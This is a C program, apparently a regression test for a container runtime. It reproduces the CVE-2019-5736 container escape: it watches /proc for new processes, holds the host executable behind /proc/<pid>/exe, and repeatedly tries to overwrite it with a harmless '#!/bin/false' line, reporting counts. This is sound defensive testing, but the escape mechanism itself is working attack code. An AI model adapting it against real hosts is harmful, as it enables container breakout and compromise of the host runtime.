/* SPDX-License-Identifier: Apache-2.0 */
/* The attacker of N02 (CVE-2019-5736). As a container's first program it takes hold of the
 * executable of each new process, and tries again and again to write to it, also when that process
 * has ended and the file is not busy any more. Ends on SIGTERM with a line of counts.
 *
 *     overwrite PROGRAM...
 *
 * PROGRAM: executables of the container, which are left alone. */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { HELD_MAX = 256, TRIES_EACH = 400 };

static volatile sig_atomic_t over;
static struct held {
	int fd;
	unsigned tries;
} held[HELD_MAX];
static unsigned n_held, n_denied, n_pids, n_opened;
static unsigned refused[200]; /* by errno */

static void on_term(int sig)
{
	(void)sig;
	over = 1;
}

/* 0, or why the file behind @fd cannot be written to. */
static int overwrite(int fd)
{
	static const char junk[] = "#!/bin/false\n";
	const int flags[] = {O_WRONLY | O_TRUNC, O_RDWR, O_WRONLY | O_APPEND};
	char path[64];
	int r = 0;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (unsigned i = 0; i < sizeof(flags) / sizeof(flags[0]); i++) {
		int to = open(path, flags[i] | O_CLOEXEC);

		if (to < 0) {
			r = errno;
			refused[r < 200 ? r : 0]++;
			continue;
		}
		n_opened++;
		if (write(to, junk, sizeof(junk) - 1) > 0) {
			dprintf(1, "GOT written\n");
			close(to);
			return 0;
		}
		r = errno;
		refused[r < 200 ? r : 0]++;
		close(to);
	}
	return r;
}

static bool is_ours(const char *exe, int n_ours, char **ours)
{
	for (int i = 0; i < n_ours; i++) {
		if (strcmp(exe, ours[i]) == 0)
			return true;
	}
	return false;
}

/* Hold on to the executable of a process that is not the container's. */
static void take(pid_t pid, int n_ours, char **ours)
{
	char path[64], exe[256];

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	while (!over) {
		ssize_t n = readlink(path, exe, sizeof(exe) - 1);
		int fd;

		if (n < 0 && errno != EACCES && errno != EPERM)
			return;
		n_denied += n < 0;
		if (n < 0)
			continue;
		exe[n] = '\0';
		if (is_ours(exe, n_ours, ours))
			return;
		fd = open(path, n_held % 2 ? O_RDONLY : O_PATH);
		if (fd < 0)
			continue;
		dprintf(1, "HOLDS %s\n", exe);
		if (n_held == HELD_MAX)
			close(fd);
		else
			held[n_held++].fd = fd;
		return;
	}
}

static void try_held(void)
{
	for (unsigned i = 0; i < n_held; i++) {
		if (held[i].tries < TRIES_EACH) {
			held[i].tries++;
			(void)overwrite(held[i].fd);
		}
	}
}

static pid_t last_pid(int loadavg)
{
	char text[128];
	ssize_t n = pread(loadavg, text, sizeof(text) - 1, 0);
	const char *blank;

	text[n < 0 ? 0 : n] = '\0';
	blank = strrchr(text, ' ');
	return blank ? atoi(blank) : 0;
}

int main(int argc, char **argv)
{
	struct sigaction term = {.sa_handler = on_term};
	int loadavg = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
	pid_t seen = last_pid(loadavg);

	sigaction(SIGTERM, &term, NULL);
	dprintf(1, "READY\n");
	while (!over) {
		for (pid_t last = last_pid(loadavg); seen < last && !over; n_pids++)
			take(++seen, argc - 1, argv + 1);
		try_held();
	}
	for (unsigned i = 0; i < n_held; i++) { /* nobody executes them any more, perhaps */
		held[i].tries = 0;
		(void)overwrite(held[i].fd);
	}
	for (int i = 0; i < 200; i++) {
		if (refused[i])
			dprintf(1, "REFUSED %s %u\n", strerrorname_np(i), refused[i]);
	}
	dprintf(1, "END pids=%u denied=%u held=%u opened=%u\n", n_pids, n_denied, n_held, n_opened);
	return 0;
}
